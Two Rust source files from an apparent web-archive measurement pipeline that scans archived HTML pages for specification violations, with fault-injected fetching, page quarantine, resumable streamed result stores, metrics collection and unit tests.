    /// The merged metrics, when [`ScanOptions::collect_metrics`] was on.
    pub metrics: Option<ScanMetrics>,
    /// Segments recovered from an existing store by [`ScanOptions::resume`]
    /// (0 on fresh scans).
    pub resumed_segments: usize,
    /// Torn-tail bytes a resume truncated before appending (0 on fresh
    /// scans and clean prefixes).
    pub truncated_bytes: u64,
}

/// Run the measurement snapshot by snapshot, streaming each snapshot's
/// records to a v1 store segment at `path` as it completes — peak memory
/// holds one snapshot's records, not the whole run. Each segment embeds
/// its snapshot's quarantine entries and is fsynced as it lands, so a
/// crash at any point leaves a valid prefix that
/// [`ScanOptions::resume`] can continue — and because generation is
/// seed-deterministic, the resumed store is byte-identical to an
/// uninterrupted run. Scanned-but-empty snapshots get an (empty) segment
/// too, so the completed set on disk is exact.
///
/// The per-snapshot scans use the same engine as [`scan_snapshots`], so
/// the store on disk is byte-identical to `scan` +
/// [`ResultStore::save_v1`] (modulo metric timings, and modulo empty
/// segments, which `save_v1` cannot distinguish from unscanned ones) at
/// any thread count.
pub fn scan_streamed(
    archive: &Archive,
    snapshots: &[Snapshot],
    opts: ScanOptions,
    path: &std::path::Path,
) -> Result<ScanSummary, HvError> {
    let start = Instant::now();
    let mut snaps: Vec<Snapshot> = snapshots.to_vec();
    snaps.sort();
    snaps.dedup();

    let seed = archive.cfg.seed;
    let scale = archive.cfg.scale;
    let universe = archive.domains().len();
    let (mut writer, truncated_bytes) = if opts.resume {
        match StoreWriter::resume(path, seed, scale, universe)? {
            Resumed::Complete { segments } => {
                // Nothing to append — report what the finished store holds.
                let store = ResultStore::load(path)?;
                return Ok(ScanSummary {
                    records: segments.iter().map(|s| u64::from(s.records)).sum(),
                    quarantined: store.quarantine.len(),
                    resumed_segments: segments.len(),
                    truncated_bytes: 0,
                    segments,
                    metrics: store.metrics,
                });
            }
            Resumed::Partial { writer, truncated } => (writer, truncated),
        }
    } else if opts.overwrite {
        (StoreWriter::create_overwrite(path, seed, scale, universe)?, 0)
    } else {
        (StoreWriter::create(path, seed, scale, universe)?, 0)
    };
    let resumed_segments = writer.completed().len();
    let completed: BTreeSet<Snapshot> = writer.completed().iter().map(|s| s.snapshot).collect();

    let mut metrics = ScanMetrics::default();
    for &snap in &snaps {
        if completed.contains(&snap) {
            continue;
        }
        let store = scan_snapshots(archive, &[snap], opts);
        // Empty segments are written too: on disk, "scanned and found
        // nothing" must stay distinguishable from "never scanned", or a
        // resume would re-scan (and a reader under-count) the snapshot.
        writer.write_segment(snap, &store.records, &store.quarantine)?;
        if let Some(m) = &store.metrics {
            // Counters are additive across snapshots; threads is constant
            // and wall_nanos is re-measured over the whole run below.
            metrics.threads = m.threads;
            metrics.merge(m);
        }
    }

    let metrics = if opts.collect_metrics {
        metrics.wall_nanos = start.elapsed().as_nanos() as u64;
        writer.write_metrics(&metrics)?;
        Some(metrics)
    } else {
        None
    };
    let segments = writer.finish()?;
    let records = segments.iter().map(|s| u64::from(s.records)).sum();
    let quarantined = segments.iter().map(|s| s.pages_quarantined as usize).sum();
    Ok(ScanSummary { records, quarantined, segments, metrics, resumed_segments, truncated_bytes })
}

/// Everything one worker hands back at the join.
struct WorkerOut {
    partials: BTreeMap<usize, Partial>,
    quarantine: Vec<QuarantineEntry>,
    metrics: ScanMetrics,
}

/// One fetch through the (optionally fault-injected) read path.
struct Fetched {
    body: Result<Vec<u8>, ErrorClass>,
    /// A fault was planned for this page (any class).
    faulted: bool,
    /// The planned fault was invalid UTF-8 (handled by the §4.1 filter).
    invalid_utf8: bool,
    /// Transient-error retries performed.
    retries: u32,
    /// Deterministic backoff accounted across those retries.
    backoff_nanos: u64,
}

/// What the guarded per-page analysis concluded. Produced *inside* the
/// panic isolation boundary; all partial/metric updates happen outside it,
/// so a caught panic cannot leave half-applied state.
enum PageAnalysis {
    RejectedUtf8,
    Analyzed {
        decoded_len: u64,
        kinds: BTreeSet<ViolationKind>,
        mitigations: MitigationFlags,
        uses_math: bool,
    },
}

/// The worker loop: pull global page indices until the cursor runs dry.
/// Returns the per-slot partials, quarantined pages, and this worker's
/// metrics share. No page input can kill the worker: fetch errors are
/// retried then quarantined, oversized/undecodable bodies are classified,
/// and parse/check panics are caught at the page boundary.
fn scan_worker(
    archive: &Archive,
    slots: &[Slot],
    starts: &[usize],
    total_pages: usize,
    cursor: &AtomicUsize,
    done: &AtomicUsize,
    opts: ScanOptions,
) -> WorkerOut {
    let mut battery = Battery::full();
    let mut stats = opts.collect_metrics.then(|| battery.new_stats());
    let mut partials: BTreeMap<usize, Partial> = BTreeMap::new();
    let mut quarantine = Vec::new();
    let mut wm = ScanMetrics::default();
    let mut phases = PhaseNanos::default();

    loop {
        let g = cursor.fetch_add(1, Ordering::Relaxed);
        if g >= total_pages {
            break;
        }
        // starts is sorted and starts[0] == 0 <= g, so the subtraction is
        // safe; the last entry (total_pages) is > g, bounding the slot.
        let slot_idx = starts.partition_point(|&s| s <= g) - 1;
        let slot = &slots[slot_idx];
        let entry = &slot.cdx.pages[g - starts[slot_idx]];
        let partial = partials.entry(slot_idx).or_default();

        // Phase (2): fetch the record body (fault-injected when asked,
        // with bounded retry for transient errors).
        let t = opts.collect_metrics.then(Instant::now);
        let fetched = fetch_page(archive, slot, entry, opts);
        lap(t, &mut phases.fetch);
        partial.faulted += fetched.faulted as usize;
        wm.faults.injected += fetched.faulted as u64;
        wm.faults.invalid_utf8_injected += fetched.invalid_utf8 as u64;
        wm.faults.retries += u64::from(fetched.retries);
        wm.faults.backoff_nanos += fetched.backoff_nanos;

        let body = match fetched.body {
            Ok(body) => body,
            Err(class) => {
                quarantine_page(class, slot, entry, partial, &mut wm, &mut quarantine);
                bump_progress(done, opts, total_pages);
                continue;
            }
        };
        wm.bytes_fetched += body.len() as u64;

        // Guards that refuse a body before any expensive work: the byte
        // budget, and bodies that are (corrupt) compressed streams rather
        // than HTML.
        if let Some(class) = body_guard(&body, opts.byte_budget) {
            quarantine_page(class, slot, entry, partial, &mut wm, &mut quarantine);
            bump_progress(done, opts, total_pages);
            continue;
        }

        // Decode + parse + check run inside a panic isolation boundary:
        // whatever a poisoned page does to the parser, the worker (and the
        // other pages' partials) survive.
        let analysis = catch_unwind(AssertUnwindSafe(|| {
            // §4.1: documents that are not UTF-8 decodable are filtered out.
            let t = opts.collect_metrics.then(Instant::now);
            let decoded = decode(&body);
            let t = lap(t, &mut phases.decode);
            let Some(text) = decoded else {
                return PageAnalysis::RejectedUtf8;
            };

            // Phase (3): parse once, then run the battery over the context.
            let cx = CheckContext::new(text);
            let t = lap(t, &mut phases.parse);
            let report = match &mut stats {
                Some(stats) => battery.run_instrumented(&cx, stats),
                None => battery.run_ref(&cx),
            };
            lap(t, &mut phases.check);

            // §4.2's usage counter: any math element (either namespace's
            // spelling ends up as a MathML-ns `math` element or an HTML
            // orphan; count both).
            let uses_math = cx
                .parse
                .dom
                .all_elements()
                .any(|id| cx.parse.dom.element(id).is_some_and(|e| e.name == "math"));
            PageAnalysis::Analyzed {
                decoded_len: text.len() as u64,
                kinds: report.kinds(),
                mitigations: report.mitigations,
                uses_math,
            }
        }));

        match analysis {
            Err(_panic) => {
                wm.faults.panics_caught += 1;
                quarantine_page(
                    ErrorClass::ParserPanic,
                    slot,
                    entry,
                    partial,
                    &mut wm,
                    &mut quarantine,
                );
            }
            Ok(PageAnalysis::RejectedUtf8) => {
                wm.pages_rejected_utf8 += 1;
            }
            Ok(PageAnalysis::Analyzed { decoded_len, kinds, mitigations, uses_math }) => {
                partial.analyzed += 1;
                if fetched.retries > 0 {
                    partial.degraded += 1;
                    wm.faults.degraded += 1;
                }
                wm.pages_analyzed += 1;
                wm.bytes_decoded += decoded_len;
                for k in kinds {
                    partial.kinds.insert(k);
                    *partial.page_counts.entry(k).or_insert(0) += 1;
                }
                partial.mitigations.merge(mitigations);
                partial.uses_math |= uses_math;
            }
        }

        bump_progress(done, opts, total_pages);
    }

    if let Some(stats) = stats {
        wm.battery = stats;
    }
    wm.phases = phases;
    WorkerOut { partials, quarantine, metrics: wm }
}

/// Fetch one record body, applying the fault plan (when configured) and
/// the bounded-retry policy for transient errors. Pure bookkeeping comes
/// back in [`Fetched`]; the caller applies it to partials and metrics.
fn fetch_page(archive: &Archive, slot: &Slot, entry: &CdxEntry, opts: ScanOptions) -> Fetched {
    let clean = || archive.fetch_page(&slot.cdx.snapshot, entry.page_index);
    let mut out = Fetched {
        body: Ok(Vec::new()),
        faulted: false,
        invalid_utf8: false,
        retries: 0,
        backoff_nanos: 0,
    };
    let Some(plan) = opts.faults else {
        out.body = Ok(clean());
        return out;
    };

    let key = PageKey {
        domain_id: slot.cdx.snapshot.domain_id,
        snapshot_index: slot.snap.index() as u64,
        page_index: entry.page_index as u64,
    };
    if let Some(fault) = plan.fault_for(key) {
        out.faulted = true;
        out.invalid_utf8 = fault.class == FaultClass::InvalidUtf8;
    }

    let mut attempt = 1u32;
    out.body = loop {
        match plan.apply(key, attempt, opts.byte_budget, clean) {
            Ok(body) => break Ok(body),
            Err(FetchFault::Transient) => {
                if attempt >= opts.retry.max_attempts {
                    break Err(ErrorClass::TransientIo);
                }
                out.retries += 1;
                let backoff = opts.retry.backoff_nanos(attempt);
                out.backoff_nanos += backoff;
                if backoff > 0 {
                    // Deterministic accounting either way; actual sleeping
                    // only when a base was configured (real I/O).
                    std::thread::sleep(std::time::Duration::from_nanos(backoff));
                }
                attempt += 1;
            }
            // Deterministic corruption: retrying cannot help.
            Err(FetchFault::MalformedCdx) => break Err(ErrorClass::MalformedCdx),
            Err(FetchFault::Warc(_)) => break Err(ErrorClass::TruncatedRecord),
        }
    };
    out
}

/// Pre-parse guards: refuse bodies the parser should never see.
fn body_guard(body: &[u8], byte_budget: usize) -> Option<ErrorClass> {
    if body.len() > byte_budget {
        return Some(ErrorClass::OversizedBody);
    }
    // Gzip magic: the record is a (possibly corrupt) compressed member,
    // not HTML — decompression is out of scope for the measurement.
    if body.starts_with(&[0x1f, 0x8b]) {
        return Some(ErrorClass::CorruptCompression);
    }
    None
}

/// Set one page aside: count it on the slot and in the metrics, and keep
/// the per-page audit entry.
fn quarantine_page(
    class: ErrorClass,
    slot: &Slot,
    entry: &CdxEntry,
    partial: &mut Partial,
    wm: &mut ScanMetrics,
    quarantine: &mut Vec<QuarantineEntry>,
) {
    partial.quarantined += 1;
    wm.faults.bump_quarantine(class);
    quarantine.push(QuarantineEntry {
        domain_id: slot.cdx.snapshot.domain_id,
        snapshot: slot.snap,
        page_index: entry.page_index,
        url: entry.url.clone(),
        class,
    });
}

/// Advance the phase clock: add the time since `t` to `acc` and restart.
/// `None` (metrics off) stays `None` at zero cost.
fn lap(t: Option<Instant>, acc: &mut u64) -> Option<Instant> {
    t.map(|t0| {
        let now = Instant::now();
        *acc += (now - t0).as_nanos() as u64;
        now
    })
}

fn bump_progress(done: &AtomicUsize, opts: ScanOptions, total_pages: usize) {
    let d = done.fetch_add(1, Ordering::Relaxed) + 1;
    if opts.progress_every > 0 && d.is_multiple_of(opts.progress_every) {
        eprintln!("  scanned {d}/{total_pages} pages");
    }
}

/// Fold one slot's merged partial into the final record.
fn make_record(
    archive: &Archive,
    slot: &Slot,
    partial: Partial,
    opts: ScanOptions,
) -> DomainYearRecord {
    let domain = &archive.domains()[slot.dom_idx];
    let kinds_after_autofix = if opts.autofix_projection {
        // §4.4's projection: the automatic pass removes the Automatic
        // kinds; Manual kinds remain.
        partial
            .kinds
            .iter()
            .copied()
            .filter(|k| k.fixability() == hv_core::Fixability::Manual)
            .collect()
    } else {
        BTreeSet::new()
    };
    DomainYearRecord {
        domain_id: domain.id,
        domain_name: domain.name.clone(),
        rank: domain.rank,
        snapshot: slot.snap,
        pages_found: slot.cdx.pages.len(),
        pages_analyzed: partial.analyzed,
        kinds: partial.kinds,
        page_counts: partial.page_counts,
        mitigations: partial.mitigations,
        kinds_after_autofix,
        uses_math: partial.uses_math,
        pages_faulted: partial.faulted,
        pages_degraded: partial.degraded,
        pages_quarantined: partial.quarantined,
    }
}

/// Borrowing decode: validation only, no copy — the parse reads straight
/// from the fetched body.
fn decode(bytes: &[u8]) -> Option<&str> {
    match spec_html::decoder::decode_utf8(bytes) {
        spec_html::decoder::Decoded::Utf8(s) => Some(s),
        spec_html::decoder::Decoded::NotUtf8 { .. } => None,
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use hv_core::autofix;
    use hv_corpus::CorpusConfig;

    fn tiny_archive() -> Archive {
        Archive::new(CorpusConfig { seed: 1234, scale: 0.002 })
    }

    #[test]
    fn scan_produces_records_for_present_domains() {
        let archive = tiny_archive();
        let store = scan_snapshots(&archive, &[Snapshot::ALL[7]], ScanOptions::new().threads(2));
        assert!(!store.records.is_empty());
        for r in &store.records {
            assert!(r.pages_found >= 1 && r.pages_found <= 100);
            assert!(r.pages_analyzed <= r.pages_found);
        }
    }

    #[test]
    fn scan_is_thread_count_invariant() {
        let archive = tiny_archive();
        let snaps = [Snapshot::ALL[0]];
        let a = scan_snapshots(&archive, &snaps, ScanOptions::new().threads(1));
        let b = scan_snapshots(&archive, &snaps, ScanOptions::new().threads(8));
        // Byte-for-byte: same records, same order, same serialization.
        assert_eq!(serde_json::to_string(&a).unwrap(), serde_json::to_string(&b).unwrap());
        // And with a third, adversarial thread count.
        let c = scan_snapshots(&archive, &snaps, ScanOptions::new().threads(3));
        assert_eq!(serde_json::to_string(&a).unwrap(), serde_json::to_string(&c).unwrap());
    }

    /// The streaming path writes byte-for-byte the same v1 store as a
    /// full in-memory scan followed by `save_v1` (without metrics, whose
    /// timings legitimately differ run to run).
    #[test]
    fn scan_streamed_equals_scan_then_save_v1() {
        let archive = tiny_archive();
        let snaps = [Snapshot::ALL[1], Snapshot::ALL[6]];
        let opts = ScanOptions::new().threads(2);
        let dir = std::env::temp_dir().join("hv_scan_streamed_test");
        std::fs::create_dir_all(&dir).unwrap();
        let batch_path = dir.join("batch.hvs");
        let stream_path = dir.join("stream.hvs");
        // A leftover from an interrupted previous run would trip the
        // clobber guard.
        std::fs::remove_file(&stream_path).ok();

        let store = scan_snapshots(&archive, &snaps, opts);
        store.save_v1(&batch_path).unwrap();
        let summary = scan_streamed(&archive, &snaps, opts, &stream_path).unwrap();

        assert_eq!(summary.records, store.records.len() as u64);
        assert_eq!(summary.segments.len(), 2);
        let batch = std::fs::read(&batch_path).unwrap();
        let streamed = std::fs::read(&stream_path).unwrap();
        assert_eq!(batch, streamed, "streamed store must be byte-identical");

        let back = ResultStore::load(&stream_path).unwrap();
        assert_eq!(serde_json::to_string(&back).unwrap(), serde_json::to_string(&store).unwrap());
        std::fs::remove_file(&batch_path).ok();
        std::fs::remove_file(&stream_path).ok();
    }

    /// Truncating a streamed (faulted!) store at a segment boundary and
    /// resuming reproduces the uninterrupted bytes — the embedded
    /// quarantine travels with its segment through the crash.
    #[test]
    fn resumed_scan_is_byte_identical_after_truncation() {
        let archive = tiny_archive();
        let snaps = [Snapshot::ALL[0], Snapshot::ALL[4], Snapshot::ALL[7]];
        let plan = FaultPlan::new(11, 0.3).unwrap();
        let opts = ScanOptions::new().threads(2).inject_faults(plan);
        let dir = std::env::temp_dir().join("hv_scan_resume_test");
        std::fs::create_dir_all(&dir).unwrap();
        let full_path = dir.join("full.hvs");
        let crash_path = dir.join("crash.hvs");

        let summary = scan_streamed(&archive, &snaps, opts.overwrite(true), &full_path).unwrap();
        assert!(summary.quarantined > 0, "30% faults must quarantine pages");
        let full = std::fs::read(&full_path).unwrap();
        let prefix = crate::format::scan_prefix(&full, &full_path).unwrap();
        assert!(prefix.complete);
        assert_eq!(prefix.segment_ends.len(), 3);

        // Cut mid-segment-1 (torn tail) and resume.
        let cut = (prefix.segment_ends[0] + prefix.segment_ends[1]) as usize / 2;
        std::fs::write(&crash_path, &full[..cut]).unwrap();
        let resumed = scan_streamed(&archive, &snaps, opts.resume(true), &crash_path).unwrap();
        assert_eq!(resumed.resumed_segments, 1, "segment 0 survives the cut");
        assert!(resumed.truncated_bytes > 0, "the torn tail was truncated");
        assert_eq!(std::fs::read(&crash_path).unwrap(), full, "resume reproduces the bytes");

        // Resuming a complete store is a no-op with the same summary shape.
        let again = scan_streamed(&archive, &snaps, opts.resume(true), &crash_path).unwrap();
        assert_eq!(again.records, resumed.records);
        assert_eq!(again.quarantined, resumed.quarantined);
        assert_eq!(again.resumed_segments, 3);
        assert_eq!(std::fs::read(&crash_path).unwrap(), full);

        // A fresh scan at the same path now refuses to clobber.
        let err = scan_streamed(&archive, &snaps, opts, &crash_path).unwrap_err();
        assert!(matches!(err, HvError::StoreExists { .. }), "got: {err}");
        // And a resume under different provenance refuses too.
        let other = Archive::new(CorpusConfig { seed: 4321, scale: 0.002 });
        let err = scan_streamed(&other, &snaps, opts.resume(true), &crash_path).unwrap_err();
        assert!(err.to_string().contains("refusing to resume"), "got: {err}");

        std::fs::remove_file(&full_path).ok();
        std::fs::remove_file(&crash_path).ok();
    }

    #[test]
    fn metrics_do_not_change_records() {
        let archive = tiny_archive();
        let snaps = [Snapshot::ALL[7]];
        let plain = scan_snapshots(&archive, &snaps, ScanOptions::new().threads(2));
        let metered =
            scan_snapshots(&archive, &snaps, ScanOptions::new().threads(5).collect_metrics(true));
        assert!(plain.metrics.is_none());
        assert!(metered.metrics.is_some());
        assert_eq!(plain.records.len(), metered.records.len());
        for (x, y) in plain.records.iter().zip(&metered.records) {
            assert_eq!(x.domain_id, y.domain_id);
            assert_eq!(x.kinds, y.kinds);
            assert_eq!(x.page_counts, y.page_counts);
            assert_eq!(x.pages_analyzed, y.pages_analyzed);
            assert_eq!(x.mitigations, y.mitigations);
        }
    }

    #[test]
    fn metrics_reconcile_with_records() {
        let archive = tiny_archive();
        let snaps = [Snapshot::ALL[0], Snapshot::ALL[7]];
        let store =
            scan_snapshots(&archive, &snaps, ScanOptions::new().threads(4).collect_metrics(true));
        let m = store.metrics.as_ref().expect("metrics collected");

        // Page accounting: listed = analyzed + rejected + quarantined, and
        // the totals match the records exactly.
        assert_eq!(m.pages_analyzed + m.pages_rejected_utf8 + m.faults.quarantined, m.pages_listed);
        let rec_analyzed: u64 = store.records.iter().map(|r| r.pages_analyzed as u64).sum();
        let rec_found: u64 = store.records.iter().map(|r| r.pages_found as u64).sum();
        assert_eq!(m.pages_analyzed, rec_analyzed);
        assert_eq!(m.pages_listed, rec_found);
        assert_eq!(m.domain_snapshots, store.records.len() as u64);

        // Per-check accounting: a rule "fires on a page" exactly when the
        // page counts that kind, so the battery stats must reproduce the
        // per-record page counts kind by kind.
        for &kind in hv_core::ViolationKind::ALL.iter() {
            let fired = m.battery.get(kind).map_or(0, |s| s.pages_fired);
            let counted: u64 = store
                .records
                .iter()
                .map(|r| u64::from(r.page_counts.get(&kind).copied().unwrap_or(0)))
                .sum();
            assert_eq!(fired, counted, "pages_fired mismatch for {kind}");
        }

        // Every analyzed page ran every rule once.
        for (kind, st) in &m.battery.per_check {
            assert_eq!(st.nanos.count, m.pages_analyzed, "execution count for {kind}");
        }
        // DE1 is finish-only: the fused engine dispatches to it exactly
        // once per analyzed page.
        let de1 = m.battery.get(hv_core::ViolationKind::DE1).unwrap();
        assert_eq!(de1.dispatches, m.pages_analyzed);
        assert!(m.wall_nanos > 0);
        assert_eq!(m.threads, 4);
        assert!(m.phases.check > 0);
    }

    #[test]
    fn faulted_scan_accounts_for_every_listed_page() {
        let archive = tiny_archive();
        let plan = FaultPlan::new(5, 0.1).unwrap();
        let opts = ScanOptions::new().threads(3).collect_metrics(true).inject_faults(plan);
        let store = scan_snapshots(&archive, &[Snapshot::ALL[2], Snapshot::ALL[6]], opts);
        let m = store.metrics.as_ref().unwrap();

        // Nothing slips: every listed page is analyzed, filtered, or
        // quarantined with a reason.
        assert_eq!(m.pages_analyzed + m.pages_rejected_utf8 + m.faults.quarantined, m.pages_listed);
        assert!(m.faults.injected > 0, "a 10% rate must fault something");
        assert_eq!(
            m.faults.quarantined,
            m.faults.malformed_cdx
                + m.faults.transient_io
                + m.faults.truncated_record
                + m.faults.corrupt_compression
                + m.faults.oversized_body
                + m.faults.parser_panic
        );
        // Counters and audit entries reconcile with the records.
        let rec_faulted: u64 = store.records.iter().map(|r| r.pages_faulted as u64).sum();
        let rec_degraded: u64 = store.records.iter().map(|r| r.pages_degraded as u64).sum();
        let rec_quarantined: u64 = store.records.iter().map(|r| r.pages_quarantined as u64).sum();
        assert_eq!(rec_faulted, m.faults.injected);
        assert_eq!(rec_degraded, m.faults.degraded);
        assert_eq!(rec_quarantined, m.faults.quarantined);
        assert_eq!(store.quarantine.len() as u64, m.faults.quarantined);
        // The default retry policy (3 attempts vs 1–4 planned failures)
        // exercises both the recovery and the exhaustion path.
        assert!(m.faults.degraded > 0, "some transient faults must recover");
        assert!(m.faults.transient_io > 0, "some transient faults must exhaust");
        assert_eq!(m.faults.parser_panic, 0, "no input may panic the parser");
    }

    #[test]
    fn faulted_scan_is_thread_count_invariant() {
        let archive = tiny_archive();
        let plan = FaultPlan::new(11, 0.3).unwrap();
        let snaps = [Snapshot::ALL[4]];
        let opts = ScanOptions::new().inject_faults(plan);
        let a = scan_snapshots(&archive, &snaps, opts.threads(1));
        let b = scan_snapshots(&archive, &snaps, opts.threads(7));
        assert!(!a.quarantine.is_empty(), "30% faults must quarantine pages");
        assert_eq!(serde_json::to_string(&a).unwrap(), serde_json::to_string(&b).unwrap());
    }

    #[test]
    fn byte_budget_quarantines_instead_of_parsing() {
        let archive = tiny_archive();
        let snaps = [Snapshot::ALL[7]];
        // A 10-byte budget refuses every page — a blunt way to prove the
        // guard sits in front of the parser.
        let store = scan_snapshots(&archive, &snaps, ScanOptions::new().threads(2).byte_budget(10));
        assert!(store.records.iter().all(|r| r.pages_analyzed == 0));
        assert!(store
            .quarantine
            .iter()
            .all(|q| q.class == crate::outcome::ErrorClass::OversizedBody));
        assert_eq!(
            store.quarantine.len(),
            store.records.iter().map(|r| r.pages_found).sum::<usize>()
        );
    }

    #[test]
    fn utf8_filter_reduces_analyzed_pages() {
        let archive = tiny_archive();
        let store = scan(&archive, ScanOptions::new().threads(4));
        // Some domain-snapshots fail the UTF-8 filter entirely.
        let failed = store.records.iter().filter(|r| r.pages_analyzed == 0).count();
        assert!(failed > 0, "expected some non-UTF-8 domain-snapshots");
        // But the overwhelming majority decode.
        let analyzed = store.records.iter().filter(|r| r.analyzed()).count();
        assert!(analyzed * 100 / store.records.len() >= 95);
    }

    #[test]
    fn autofix_projection_is_subset_of_kinds() {
        let archive = tiny_archive();
        let store = scan_snapshots(&archive, &[Snapshot::ALL[7]], ScanOptions::default());
        for r in &store.records {
            assert!(r.kinds_after_autofix.is_subset(&r.kinds));
            for k in &r.kinds_after_autofix {
                assert_eq!(k.fixability(), hv_core::Fixability::Manual);
            }
        }
    }

    /// End-to-end spot check: re-running the actual auto-fixer over a
    /// violating page removes exactly the Automatic kinds (the projection
    /// used by the aggregate is faithful to the real fixer).
    #[test]
    fn autofix_projection_matches_real_fixer() {
        let archive = tiny_archive();
        let snap = Snapshot::ALL[7];
        let mut checked = 0;
        for d in archive.domains() {
            let Some(cdx) = archive.cdx_lookup(d, snap) else { continue };
            if !cdx.snapshot.utf8_ok {
                continue;
            }
            for entry in cdx.pages.iter().take(2) {
                let body = archive.fetch_page(&cdx.snapshot, entry.page_index);
                let text = String::from_utf8(body).unwrap();
                let outcome = autofix::auto_fix(&text);
                for k in &outcome.after {
                    // Everything surviving the real fixer is Manual.
                    assert_eq!(
                        k.fixability(),
                        hv_core::Fixability::Manual,
                        "auto-fix left {k} behind on {}",
                        entry.url
                    );
                }
                checked += 1;
            }
            if checked > 40 {
                break;
            }
        }
        assert!(checked > 20);
    }
}
