//! The Figure-6 pipeline orchestrator — a page-granular scan engine.
//!
//! Steps: (1) the driver performs every CDX metadata lookup up front and
//! flattens the hits into one global page index (prefix sums over the
//! per-domain page counts). Workers then pull *individual pages* from an
//! atomic cursor — no domain is large enough to straggle, so the pool
//! stays busy to the last page. Each worker owns one reusable
//! [`hv_core::Battery`] (the rule set is boxed once, the findings buffer
//! recycled page-to-page) and accumulates per-domain partials locally;
//! (4) after the join the driver folds the partials into
//! [`DomainYearRecord`]s. Every merge is commutative (set union, count
//! addition, flag OR), so the result is byte-identical at any thread
//! count.
//!
//! With [`ScanOptions::collect_metrics`] the workers additionally time
//! each phase (fetch/decode/parse/check) and every individual rule into a
//! [`ScanMetrics`], merged lock-free at the join and embedded in the
//! store as provenance.

use crate::metrics::{PhaseNanos, ScanMetrics};
use crate::store::{DomainYearRecord, ResultStore};
use hv_core::context::CheckContext;
use hv_core::{Battery, MitigationFlags};
use hv_corpus::archive::DomainCdx;
use hv_corpus::{Archive, Snapshot};
use std::collections::{BTreeMap, BTreeSet};
use std::sync::atomic::{AtomicUsize, Ordering};
use std::time::Instant;

/// Scan options. Construct with [`ScanOptions::new`] and chain the
/// builder methods; the struct is `#[non_exhaustive]` so new knobs can be
/// added without breaking callers.
///
/// ```
/// use hv_pipeline::ScanOptions;
/// let opts = ScanOptions::new().threads(8).progress_every(500).collect_metrics(true);
/// assert_eq!(opts.threads, 8);
/// ```
#[derive(Debug, Clone, Copy)]
#[non_exhaustive]
pub struct ScanOptions {
    /// Worker threads; 0 = one per available core.
    pub threads: usize,
    /// Also compute the §4.4 auto-fix projection per domain (adds one
    /// classification pass; cheap — it reuses the check results).
    pub autofix_projection: bool,
    /// Print progress to stderr every this many pages (0 = silent).
    pub progress_every: usize,
    /// Collect [`ScanMetrics`] (per-phase timings, per-check fire counts)
    /// and embed them in the store. Adds two clock reads per page plus one
    /// per rule execution.
    pub collect_metrics: bool,
}

impl ScanOptions {
    /// The defaults: all cores, auto-fix projection on, silent, no metrics.
    pub fn new() -> Self {
        ScanOptions {
            threads: 0,
            autofix_projection: true,
            progress_every: 0,
            collect_metrics: false,
        }
    }

    /// Worker threads; 0 = one per available core.
    pub fn threads(mut self, threads: usize) -> Self {
        self.threads = threads;
        self
    }

    /// Toggle the §4.4 auto-fix projection.
    pub fn autofix_projection(mut self, on: bool) -> Self {
        self.autofix_projection = on;
        self
    }

    /// Print progress to stderr every `every` pages (0 = silent).
    pub fn progress_every(mut self, every: usize) -> Self {
        self.progress_every = every;
        self
    }

    /// Toggle [`ScanMetrics`] collection.
    pub fn collect_metrics(mut self, on: bool) -> Self {
        self.collect_metrics = on;
        self
    }
}

impl Default for ScanOptions {
    fn default() -> Self {
        ScanOptions::new()
    }
}

/// Run the full measurement: every domain of the archive's top list, every
/// snapshot, up to 100 pages each — the paper's §4.1 study execution.
pub fn scan(archive: &Archive, opts: ScanOptions) -> ResultStore {
    scan_snapshots(archive, &Snapshot::ALL, opts)
}

/// One (domain, snapshot) with a CDX hit — the unit the partials merge
/// back into.
struct Slot {
    dom_idx: usize,
    snap: Snapshot,
    cdx: DomainCdx,
}

/// A worker's running totals for one slot. All fields merge commutatively.
#[derive(Default)]
struct Partial {
    analyzed: usize,
    kinds: BTreeSet<hv_core::ViolationKind>,
    page_counts: BTreeMap<hv_core::ViolationKind, u32>,
    mitigations: MitigationFlags,
    uses_math: bool,
}

impl Partial {
    fn absorb(&mut self, other: Partial) {
        self.analyzed += other.analyzed;
        self.kinds.extend(other.kinds);
        for (k, n) in other.page_counts {
            *self.page_counts.entry(k).or_insert(0) += n;
        }
        self.mitigations.merge(other.mitigations);
        self.uses_math |= other.uses_math;
    }
}

/// Run the measurement for a subset of snapshots.
pub fn scan_snapshots(archive: &Archive, snapshots: &[Snapshot], opts: ScanOptions) -> ResultStore {
    let threads = if opts.threads == 0 {
        std::thread::available_parallelism().map(|n| n.get()).unwrap_or(4)
    } else {
        opts.threads
    };
    let scan_start = Instant::now();

    // Phase (1): all CDX lookups, driver-side. Cheap relative to parsing,
    // and doing them up front yields the flat page index the workers need.
    let cdx_start = Instant::now();
    let domains = archive.domains();
    let mut slots: Vec<Slot> = Vec::new();
    for (dom_idx, domain) in domains.iter().enumerate() {
        for &snap in snapshots {
            if let Some(cdx) = archive.cdx_lookup(domain, snap) {
                slots.push(Slot { dom_idx, snap, cdx });
            }
        }
    }
    let cdx_nanos = cdx_start.elapsed().as_nanos() as u64;

    // Prefix sums: global page index g lives in slot
    // partition_point(starts, <= g) - 1 at local offset g - starts[slot].
    let mut starts = Vec::with_capacity(slots.len() + 1);
    let mut acc = 0usize;
    for slot in &slots {
        starts.push(acc);
        acc += slot.cdx.pages.len();
    }
    starts.push(acc);
    let total_pages = acc;

    let cursor = AtomicUsize::new(0);
    let done = AtomicUsize::new(0);

    let worker_out: Vec<(BTreeMap<usize, Partial>, ScanMetrics)> = std::thread::scope(|s| {
        let mut handles = Vec::new();
        for _ in 0..threads {
            let cursor = &cursor;
            let done = &done;
            let slots = &slots;
            let starts = &starts;
            handles.push(s.spawn(move || {
                scan_worker(archive, slots, starts, total_pages, cursor, done, opts)
            }));
        }
        handles.into_iter().map(|h| h.join().expect("scan worker panicked")).collect()
    });

    // Fold worker partials per slot. Each merge is commutative, so the
    // worker order cannot show through.
    let mut merged: Vec<Partial> = (0..slots.len()).map(|_| Partial::default()).collect();
    let mut metrics = ScanMetrics::default();
    for (partials, wm) in worker_out {
        for (slot_idx, partial) in partials {
            merged[slot_idx].absorb(partial);
        }
        metrics.merge(&wm);
    }

    let mut store = ResultStore::new(archive.cfg.seed, archive.cfg.scale, domains.len());
    for (slot, partial) in slots.iter().zip(merged) {
        store.records.push(make_record(archive, slot, partial, opts));
    }
    store.finalize();

    if opts.collect_metrics {
        metrics.threads = threads;
        metrics.phases.cdx = cdx_nanos;
        metrics.domain_snapshots = slots.len() as u64;
        metrics.pages_listed = total_pages as u64;
        metrics.wall_nanos = scan_start.elapsed().as_nanos() as u64;
        store.metrics = Some(metrics);
    }
    store
}

